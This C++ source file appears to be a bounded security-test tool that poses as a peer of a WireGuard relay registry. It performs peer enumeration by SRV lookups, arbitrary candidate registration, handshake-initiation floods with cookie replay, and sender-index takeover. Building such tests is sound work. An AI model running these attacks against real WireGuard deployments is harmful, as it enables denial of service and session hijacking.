// wgp_relay_peer: a peer of a registry that abuses what its session with the
// registry entitles it to (issue 17): the relay, the candidates it may
// register. It is a real WireGuard peer of the registry (its key is one of
// the registry's [Peer]s): it completes a handshake from its own socket (so
// the registry confirms that address as its endpoint), asks the registry in
// the tunnel (as discovery does), and then does what the options say, in
// this order. Bounded in packets and time; prints `key=value` counts on
// stdout for a test or a benchmark; writes no file.
//
//   wgp_relay_peer --registry IP:PORT --registry-key B64 --key PRIVB64
//                  --tunnel-ip IP --registry-tunnel-ip IP --zone ZONE [--bind-port P]
//     [--lookup-keys FILE]        SRV lookups of every public key in FILE (the last
//                                 column of each line: `bench_dns_server keys` or one key
//                                 a line), 500 a second; each permits the pair at a relay
//     [--register IP,IP --register-port P]   an UPDATE registering these candidates
//     [--flood-to B64 --count N --rate R [--mac1 bad|valid] [--cookies yes]]
//                                 N initiations through the relay: mac1 valid for B64 (a
//                                 real initiation from our key, a fresh index each) or bad;
//                                 with --cookies, mac2 from the first cookie reply on
//     [--takeover-index HEX --to B64]        one initiation for B64 whose sender index is
//                                 HEX (someone else's)
//     [--hold SECONDS]            keep the session (a keepalive every 5 s) that long
#include <arpa/inet.h>
#include <poll.h>

#include <cmath>
#include <cstdio>
#include <fstream>
#include <sstream>

#include "attack_common.h"
#include "crypto/aead.h"
#include "crypto/blake2s.h"
#include "crypto/random.h"
#include "crypto/tai64n.h"
#include "crypto/x25519.h"
#include "dnssd/candidate_update.h"
#include "dnssd/discovery_query.h"
#include "dnssd/inner_udp.h"
#include "noise/cookie.h"
#include "noise/handshake.h"

namespace wgp::attack {
namespace {

constexpr uint16_t kDnsPort = 53;  // in-tunnel DNS, both ends (DESIGN.md §4)

PublicKey parse_public(const std::string& text) {
  auto k = public_key_from_base64(text);
  if (!k) throw std::invalid_argument("'" + text + "' is not a base64 WireGuard key");
  return *k;
}

// One WireGuard session with the registry, driven by hand.
class Session {
 public:
  Session(UdpSocket& sock, const Endpoint& registry, const PublicKey& registry_key,
          const PrivateKey& key)
      : sock_(sock),
        registry_(registry),
        local_(noise::LocalIdentity::from_private_key(key)),
        peer_(registry_key, local_) {
    macs_.set_keys(peer_.mac1_key, peer_.cookie_key);
  }

  void handshake() {
    for (int attempt = 0; attempt < 5 && !send_key_; ++attempt) {
      noise::Handshake hs;
      std::array<uint8_t, noise::kInitiationSize> msg{};
      uint32_t index = rng_.u32();
      if (noise::create_initiation(hs, local_, peer_, index,
                                   tai64n(std::chrono::system_clock::now()),
                                   generate_private_key(rng_), msg) != noise::HandshakeError::kNone)
        throw std::runtime_error("create_initiation failed");
      macs_.add_macs(msg, BootClock::now());
      send_one(sock_, registry_, msg);
      auto deadline = BootClock::now() + std::chrono::seconds(2);
      while (!send_key_ && BootClock::now() < deadline) {
        receive(100, [&](ByteView d) {
          if (d.size() != noise::kResponseSize || load_le32(d.data()) != 2) return;
          noise::SessionKeys keys;
          if (noise::consume_response(hs, local_, peer_, d.first<noise::kResponseSize>(), keys) !=
              noise::HandshakeError::kNone)
            return;
          send_key_.emplace(keys.send);
          receive_key_.emplace(keys.receive);
          remote_index_ = keys.remote_index;
          local_index_ = keys.local_index;
        });
      }
    }
    if (!send_key_) throw std::runtime_error("no handshake with the registry");
    keepalive();  // key confirmation: the registry's session becomes usable
  }

  // An IP packet (or nothing: a keepalive) to the registry, sealed.
  void send_packet(ByteView ip) {
    size_t padded = (ip.size() + 15) & ~size_t(15);
    std::vector<uint8_t> msg(noise::kTransportHeaderSize + padded + noise::kTagSize);
    store_le32(msg.data(), uint32_t(noise::MessageType::kTransport));
    store_le32(msg.data() + noise::kTransportReceiverOffset, remote_index_);
    store_le64(msg.data() + noise::kTransportCounterOffset, counter_);
    if (!send_key_->seal_padded(counter_++, ip, padded - ip.size(),
                                MutableByteView(msg).subspan(noise::kTransportHeaderSize)))
      throw std::runtime_error("seal failed");
    send_one(sock_, registry_, msg);
  }
  void keepalive() { send_packet({}); }

  // Reads what arrives within `ms`; `fn` sees each datagram, decrypted ones
  // as their plaintext through `inner` when given.
  template <typename Fn>
  void receive(int ms, Fn&& fn) {
    pollfd p{sock_.fd(), POLLIN, 0};
    if (::poll(&p, 1, ms) <= 0) return;
    ReplyCounts ignored;
    drain(sock_, batch_, ignored, [&](ByteView d) {
      ++received_;
      fn(d);
    });
  }
  // The plaintext of a data message from the registry, or empty.
  std::vector<uint8_t> open(ByteView d) {
    if (!receive_key_ || d.size() < noise::kTransportMinSize || load_le32(d.data()) != 4 ||
        load_le32(&d[noise::kTransportReceiverOffset]) != local_index_)
      return {};
    std::vector<uint8_t> plain(d.size() - noise::kTransportHeaderSize - noise::kTagSize);
    if (!receive_key_->open(load_le64(&d[noise::kTransportCounterOffset]),
                            d.subspan(noise::kTransportHeaderSize), {}, plain))
      return {};
    return plain;
  }

  const noise::LocalIdentity& identity() const { return local_; }
  uint64_t received() const { return received_; }

 private:
  UdpSocket& sock_;
  Endpoint registry_;
  SystemRandom rng_;
  noise::LocalIdentity local_;
  noise::PeerKeys peer_;
  noise::CookieGenerator macs_;
  std::optional<AeadKey> send_key_, receive_key_;
  uint32_t remote_index_ = 0, local_index_ = 0;
  uint64_t counter_ = 0;
  uint64_t received_ = 0;
  DatagramBatch batch_{64, 2048};
};

// The public keys of FILE: the last field of each line.
std::vector<PublicKey> read_keys(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw std::runtime_error("cannot read " + path);
  std::vector<PublicKey> keys;
  std::string line;
  while (std::getline(in, line)) {
    std::istringstream fields(line);
    std::string field, last;
    while (fields >> field) last = field;
    if (!last.empty()) keys.push_back(parse_public(last));
  }
  return keys;
}

struct Tunnel {
  IpAddress ours, registry;
  std::string zone;
};

// A DNS message to the registry in the tunnel, from port 53 (as discovery).
void send_dns(Session& s, const Tunnel& t, ByteView dns) {
  std::vector<uint8_t> packet(dnssd::udp_packet_size(t.ours.family, dns.size()));
  size_t n = dnssd::build_udp_packet(t.ours, kDnsPort, t.registry, kDnsPort, dns, packet);
  if (!n) throw std::runtime_error("cannot build the inner packet");
  s.send_packet(ByteView(packet.data(), n));
}

// SRV lookups of `keys`, paced, answers counted.
void lookups(Session& s, const Tunnel& t, const std::vector<PublicKey>& keys) {
  uint64_t answers = 0;
  auto count = [&](ByteView d) { answers += !s.open(d).empty(); };
  Instant start = BootClock::now();
  for (size_t i = 0; i < keys.size(); ++i) {
    std::vector<uint8_t> q;
    if (!dnssd::build_query(uint16_t(i), dnssd::instance_name(keys[i], t.zone),
                            dnssd::kQueryTypeSrv, q))
      throw std::runtime_error("cannot build a query");
    send_dns(s, t, q);
    if (i % 50 == 49) {
      s.receive(0, count);
      std::this_thread::sleep_until(start + std::chrono::milliseconds(2 * (i + 1)));
    }
  }
  for (int i = 0; i < 20 && answers < keys.size(); ++i) s.receive(100, count);
  std::printf("lookups=%zu answers=%llu\n", keys.size(), (unsigned long long)answers);
}

void register_candidates(Session& s, const Tunnel& t, const std::string& list, uint16_t port) {
  dnssd::CandidateSet set{port, {}};
  std::stringstream in(list);
  std::string item;
  while (std::getline(in, item, ',')) {
    auto a = IpAddress::parse(item);
    if (!a) throw std::invalid_argument("--register: '" + item + "' is not an address");
    set.addresses.push_back(*a);
  }
  std::vector<uint8_t> update;
  if (!dnssd::build_candidate_update(1, s.identity().public_key, t.zone, set, update))
    throw std::runtime_error("cannot build the UPDATE");
  send_dns(s, t, update);
  int rcode = -1;
  for (int i = 0; i < 20 && rcode < 0; ++i)
    s.receive(100, [&](ByteView d) {
      auto plain = s.open(d);
      auto udp = dnssd::parse_udp_packet(plain);
      uint8_t r;
      if (udp && dnssd::is_update_response(udp->payload, &r)) rcode = r;
    });
  std::printf("register=%zu rcode=%d\n", set.addresses.size(), rcode);
}

// Initiations through the relay for `to`: real ones from our key (valid
// mac1), or with mac1 broken; mac2 from a cookie reply once one came.
void flood(Session& s, UdpSocket& sock, const Endpoint& registry,
           const std::optional<PublicKey>& to, uint64_t count, double rate, bool valid_mac1,
           bool cookies) {
  SystemRandom rng;
  noise::PeerKeys keys(to.value_or(s.identity().public_key), s.identity());
  // A small pool of real initiations (two X25519 each), a fresh index per send.
  std::vector<std::array<uint8_t, noise::kInitiationSize>> pool(valid_mac1 ? 64 : 1);
  for (auto& m : pool) {
    noise::Handshake hs;
    if (valid_mac1 && noise::create_initiation(
                          hs, s.identity(), keys, 0, tai64n(std::chrono::system_clock::now()),
                          generate_private_key(rng), m) != noise::HandshakeError::kNone)
      throw std::runtime_error("create_initiation failed");
    if (!valid_mac1) {
      rng.fill(m);
      store_le32(m.data(), uint32_t(noise::MessageType::kInitiation));
    }
  }
  Mac cookie{};
  bool have_cookie = false;
  uint64_t sent = 0, cookie_replies = 0;
  const uint32_t base = 0x6b000000;
  auto on_reply = [&](ByteView d) {
    if (d.size() != noise::kCookieReplySize || load_le32(d.data()) != 3) return;
    ++cookie_replies;
    if (!cookies || have_cookie) return;
    uint64_t seq = uint32_t(load_le32(&d[noise::kCookieReplyReceiverOffset]) - base);
    if (seq >= sent) return;
    auto msg = pool[seq % pool.size()];
    store_le32(&msg[noise::kInitiationSenderOffset], base + uint32_t(seq));
    Mac mac1 = mac16(keys.mac1_key, {ByteView(msg).first(noise::kInitiationMac1Offset)});
    Mac opened;
    if (xaead_open(keys.cookie_key, d.subspan<noise::kCookieReplyNonceOffset, kXNonceSize>(),
                   d.subspan(noise::kCookieReplyCookieOffset, kMacSize + kAeadTagSize), mac1,
                   opened)) {
      cookie = opened;
      have_cookie = true;
    }
  };
  Instant start = BootClock::now();
  auto deadline = start + std::chrono::microseconds(int64_t(kMaxSeconds * 1e6));
  while (sent < count && BootClock::now() < deadline) {
    double elapsed = std::chrono::duration<double>(BootClock::now() - start).count();
    uint64_t due = std::min<uint64_t>(count, uint64_t(elapsed * rate) + 1);
    for (int burst = 0; sent < due && burst < 256; ++burst, ++sent) {
      auto msg = pool[sent % pool.size()];
      store_le32(&msg[noise::kInitiationSenderOffset], base + uint32_t(sent));
      if (valid_mac1) {
        Mac mac1 = mac16(keys.mac1_key, {ByteView(msg).first(noise::kInitiationMac1Offset)});
        std::copy(mac1.begin(), mac1.end(), msg.begin() + noise::kInitiationMac1Offset);
        if (have_cookie) {
          Mac mac2 = mac16(cookie, {ByteView(msg).first(noise::kInitiationMac2Offset)});
          std::copy(mac2.begin(), mac2.end(), msg.begin() + noise::kInitiationMac2Offset);
        }
      }
      (void)send_one(sock, registry, msg);
    }
    s.receive(0, on_reply);
    if (sent >= due) std::this_thread::sleep_for(std::chrono::microseconds(500));
  }
  double took = std::chrono::duration<double>(BootClock::now() - start).count();
  for (int i = 0; i < 5; ++i) s.receive(100, on_reply);
  std::printf("flood_sent=%llu flood_seconds=%.2f cookie_replies=%llu cookie=%s\n",
              (unsigned long long)sent, took, (unsigned long long)cookie_replies,
              have_cookie ? "yes" : "no");
}

void takeover(Session& s, UdpSocket& sock, const Endpoint& registry, const PublicKey& to,
              uint32_t index) {
  SystemRandom rng;
  noise::PeerKeys keys(to, s.identity());
  noise::Handshake hs;
  std::array<uint8_t, noise::kInitiationSize> msg{};
  if (noise::create_initiation(hs, s.identity(), keys, index,
                               tai64n(std::chrono::system_clock::now()), generate_private_key(rng),
                               msg) != noise::HandshakeError::kNone)
    throw std::runtime_error("create_initiation failed");
  noise::CookieGenerator macs;
  macs.set_keys(keys.mac1_key, keys.cookie_key);
  macs.add_macs(msg, BootClock::now());
  (void)send_one(sock, registry, msg);
  std::printf("takeover_index=%08x\n", index);
}

int run(const Options& o) {
  Endpoint registry = o.endpoint("registry");
  PublicKey registry_key = parse_public(o.need("registry-key"));
  auto key = secret_key_from_base64(o.need("key"));
  if (!key) throw std::invalid_argument("--key is not a base64 private key");
  Tunnel t{*IpAddress::parse(o.need("tunnel-ip")), *IpAddress::parse(o.need("registry-tunnel-ip")),
           o.need("zone")};
  UdpSocket sock = open_socket(uint16_t(o.number("bind-port", 0, 0, 65535)));
  sock.disable_offloads();  // one datagram a slot: the registry's answers may leave as a GSO run
  auto keys_file = o.get("lookup-keys");
  auto reg_list = o.get("register");
  uint16_t reg_port = uint16_t(o.number("register-port", 51820, 1, 65535));
  auto flood_to = o.get("flood-to");
  uint64_t count = uint64_t(o.number("count", 0, 0, double(kMaxPackets)));
  double rate = o.number("rate", 1000, 1, 200000);
  bool valid_mac1 = o.get("mac1").value_or("valid") == "valid";
  bool cookies = o.get("cookies").value_or("no") == "yes";
  auto takeover_index = o.get("takeover-index");
  auto to = o.get("to");
  double hold = o.number("hold", 0, 0, kMaxSeconds);
  o.check_all_used();

  Session s(sock, registry, registry_key, *key);
  s.handshake();
  std::printf("handshake=ok\n");
  if (keys_file) lookups(s, t, read_keys(*keys_file));
  if (reg_list) register_candidates(s, t, *reg_list, reg_port);
  if (flood_to)
    flood(s, sock, registry,
          *flood_to == "none" ? std::nullopt : std::optional(parse_public(*flood_to)), count, rate,
          valid_mac1, cookies);
  if (takeover_index && to)
    takeover(s, sock, registry, parse_public(*to),
             uint32_t(std::stoul(*takeover_index, nullptr, 16)));
  Instant end = BootClock::now() + std::chrono::milliseconds(int64_t(hold * 1000));
  while (BootClock::now() < end) {
    s.keepalive();
    for (int i = 0; i < 50 && BootClock::now() < end; ++i) s.receive(100, [](ByteView) {});
  }
  std::printf("received=%llu\n", (unsigned long long)s.received());
  std::fflush(stdout);
  return 0;
}

}  // namespace
}  // namespace wgp::attack

int main(int argc, char** argv) {
  std::setvbuf(stdout, nullptr, _IOLBF, 0);  // each line as it comes: tests watch them
  try {
    return wgp::attack::run(wgp::attack::Options(argc, argv, 1));
  } catch (const std::exception& e) {
    std::fprintf(stderr, "wgp_relay_peer: %s\n", e.what());
    return 2;
  }
}
